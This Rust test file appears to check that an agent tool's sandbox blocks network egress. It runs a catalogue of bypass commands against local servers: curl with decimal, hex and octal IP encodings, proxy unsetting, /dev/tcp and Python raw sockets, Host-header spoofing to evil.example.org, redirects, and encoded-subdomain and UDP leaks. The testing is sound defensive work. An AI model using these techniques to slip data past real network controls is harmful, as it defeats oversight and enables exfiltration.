//! Data that leaves by the network.

use std::{
    io::{Read as _, Write as _},
    net::{TcpListener, UdpSocket},
    sync::{Arc, Mutex},
    time::Duration,
};

use serde_json::{Value, json};

use super::{Form, answers, has_programs, play};
use crate::hooks::Scene;

/// A server on this machine that notes the first line of each request, and redirects `/to/X` to X.
struct Server {
    port: u16,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen: Arc<Mutex<Vec<String>>> = Arc::default();
        let stored = Arc::clone(&seen);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let stored = Arc::clone(&stored);
                std::thread::spawn(move || {
                    let _best_effort = stream.set_read_timeout(Some(Duration::from_secs(5)));
                    let mut bytes = [0; 4096];
                    let count = stream.read(&mut bytes).unwrap_or(0);
                    let text = String::from_utf8_lossy(&bytes[..count]).into_owned();
                    let line = text.lines().next().unwrap_or_default().to_owned();
                    let to = line.split(' ').nth(1).and_then(|path| path.split_once("/to/"));
                    let answer = match to {
                        Some((_, to)) => format!(
                            "HTTP/1.1 302 Found\r\nlocation: http://{to}\r\ncontent-length: 0\r\n\r\n"
                        ),
                        None => "HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok".to_owned(),
                    };
                    stored.lock().unwrap().push(text);
                    let _may_be_closed = stream.write_all(answer.as_bytes());
                });
            }
        });
        Self { port, seen }
    }

    fn has_seen(&self, name: &str) -> bool {
        self.seen.lock().unwrap().iter().any(|text| text.contains(&format!("leak-{name}")))
    }
}

/// A socket for datagrams, as a resolver would have it: data in names leaves by questions.
fn resolver() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let seen: Arc<Mutex<Vec<u8>>> = Arc::default();
    let stored = Arc::clone(&seen);
    std::thread::spawn(move || {
        let mut bytes = [0; 512];
        while let Ok(count) = socket.recv(&mut bytes) {
            stored.lock().unwrap().extend_from_slice(&bytes[..count]);
        }
    });
    (port, seen)
}

/// Ways to the server; `{P}` is its port, `{Q}` that of another one, `{U}` that of the resolver.
const WAYS: &[(&str, &str)] = &[
    ("address", "curl -s -m 3 http://127.0.0.1:{P}/leak-address"),
    ("localhost", "curl -s -m 3 http://localhost:{P}/leak-localhost"),
    (
        "subdomain",
        "curl -s -m 3 --resolve a.localhost:{P}:127.0.0.1 http://a.localhost:{P}/leak-subdomain",
    ),
    ("number", "curl -s -m 3 http://2130706433:{P}/leak-number"),
    ("hexadecimal", "curl -s -m 3 http://0x7f000001:{P}/leak-hexadecimal"),
    ("octal", "curl -s -m 3 http://0177.0.0.1:{P}/leak-octal"),
    ("short", "curl -s -m 3 http://127.1:{P}/leak-short"),
    ("any", "curl -s -m 3 http://0.0.0.0:{P}/leak-any"),
    ("mapped", "curl -s -m 3 http://[::ffff:127.0.0.1]:{P}/leak-mapped"),
    ("no-proxy", "curl -s -m 3 --noproxy '*' http://127.0.0.1:{P}/leak-no-proxy"),
    (
        "unset",
        "env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -s -m 3 http://127.0.0.1:{P}/leak-unset",
    ),
    ("dev-tcp", "exec 3<>/dev/tcp/127.0.0.1/{P}; echo leak-dev-tcp >&3; sleep 0.2"),
    (
        "socket",
        "python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\",{P})); s.sendall(b\"leak-socket\")'",
    ),
    (
        "allowed-name",
        "curl -s -m 3 --resolve good.example.com:{P}:127.0.0.1 --noproxy '*' http://good.example.com:{P}/leak-allowed-name",
    ),
    (
        "connect-to",
        "curl -s -m 3 --connect-to good.example.com:80:127.0.0.1:{P} --noproxy '*' http://good.example.com/leak-connect-to",
    ),
    ("git", "git -c http.proxy= ls-remote http://127.0.0.1:{P}/leak-git"),
];

/// The ways, and those of them that name an address once more by the proxy of the sandbox.
fn all_ways() -> Vec<(String, String)> {
    let plain = WAYS.iter().map(|(name, line)| ((*name).to_owned(), (*line).to_owned()));
    let proxied = WAYS.iter().filter(|(_, line)| line.starts_with("curl -s -m 3 http")).map(
        |(name, line)| {
            let line = line.replace("-m 3", "-m 3 --noproxy ''");
            (format!("proxied-{name}"), line.replace("leak-", "leak-proxied-"))
        },
    );
    plain.chain(proxied).collect()
}

fn filled(text: &str, server: &Server, resolver: u16) -> String {
    text.replace("{P}", &server.port.to_string()).replace("{U}", &resolver.to_string())
}

/// The control: without a sandbox, which only the user can choose, each way reaches the server.
#[test]
fn commands_send_nothing_to_where_no_rule_leads() {
    if !has_programs(&["curl", "bash", "python3", "git", "bwrap"]) {
        return;
    }
    for (flags, is_control) in [(&["--mode", "auto"][..], false), (&["--no-sandbox"], true)] {
        let server = Server::start();
        let (port, datagrams) = resolver();
        let ways = all_ways();
        let mut forms: Vec<Form> = ways
            .iter()
            .map(|(name, line)| Form::shell(name, &filled(line, &server, port)))
            .collect();
        let question = "python3 -c 'import socket; \
            socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b\"leak\",(\"127.0.0.1\",{U}))'";
        forms.push(Form::shell("name", &filled(question, &server, port)));
        let config = json!({"permissions": {"allow": ["run_shell"]},
            "network": {"domains": ["good.example.com"], "ports": [server.port], "ask": false}});
        let scene = Scene::new(&answers(&forms), &config, &[]);
        let results = play(&scene, &forms, flags);
        let seen: Vec<&String> =
            ways.iter().map(|(name, _)| name).filter(|name| server.has_seen(name)).collect();
        if is_control {
            assert_eq!(seen.len(), ways.len(), "{seen:?} {results:#?}");
            assert!(!datagrams.lock().unwrap().is_empty());
        } else {
            assert!(seen.is_empty(), "{seen:?} {results:#?}");
            assert!(datagrams.lock().unwrap().is_empty(), "{results:#?}");
        }
    }
}

/// Ways through an allowed domain to another one. `localhost` stands for a domain that is allowed.
const THROUGH: &[(&str, &str)] = &[
    (
        "redirect-address",
        "curl -s -m 3 --noproxy '' -L http://localhost:{P}/to/127.0.0.1:{Q}/leak-redirect-address",
    ),
    (
        "redirect-number",
        "curl -s -m 3 --noproxy '' -L http://localhost:{P}/to/2130706433:{Q}/leak-redirect-number",
    ),
    (
        "host",
        "curl -s -m 3 --noproxy '' -H 'Host: evil.example.org' http://localhost:{P}/leak-host",
    ),
    (
        "absolute",
        "curl -s -m 3 --noproxy '' --request-target http://127.0.0.1:{Q}/leak-absolute http://localhost:{P}/",
    ),
    (
        "tunnel",
        "curl -s -m 3 --noproxy '' -p -H 'Host: evil.example.org' http://localhost:{P}/leak-tunnel",
    ),
    ("label", "curl -s -m 3 --noproxy '' http://c2VjcmV0.evil.localhost:{P}/leak-label"),
    (
        "credentials",
        "curl -s -m 3 --noproxy '' http://localhost:{P}@127.0.0.1:{Q}/leak-credentials",
    ),
    ("other-port", "curl -s -m 3 --noproxy '' http://localhost:{Q}/leak-other-port"),
];

/// The control: the allowed domain itself is reached, at its port.
#[test]
fn allowed_domain_is_no_way_to_another() {
    if !has_programs(&["curl", "bwrap"]) {
        return;
    }
    let (server, other) = (Server::start(), Server::start());
    let mut forms: Vec<Form> = THROUGH
        .iter()
        .map(|(_, line)| {
            line.replace("{Q}", &other.port.to_string()).replace("{P}", &server.port.to_string())
        })
        .zip(THROUGH)
        .map(|(line, (name, _))| Form::shell(name, &line))
        .collect();
    forms.push(Form::shell(
        "control",
        &format!("curl -s -m 3 --noproxy '' http://localhost:{}/leak-control", server.port),
    ));
    let config = json!({"permissions": {"allow": ["run_shell"]},
        "network": {"domains": ["localhost"], "ports": [server.port], "ask": false}});
    let scene = Scene::new(&answers(&forms), &config, &[]);
    let results = play(&scene, &forms, &["--mode", "auto"]);
    assert!(server.has_seen("control"), "{results:#?}");
    let at = |name: &str| -> Value {
        let index = forms.iter().position(|form| form.name == name).unwrap();
        results[index].clone()
    };
    for (name, _) in THROUGH {
        assert!(!other.has_seen(name), "{name}: {}", at(name));
    }
    for name in ["tunnel", "label"] {
        assert!(!server.has_seen(name), "{name}: {}", at(name));
    }
    // A request names the host that was admitted, whatever the program wrote.
    let seen = server.seen.lock().unwrap().join("\n");
    assert!(!seen.contains("evil"), "{seen}");
}
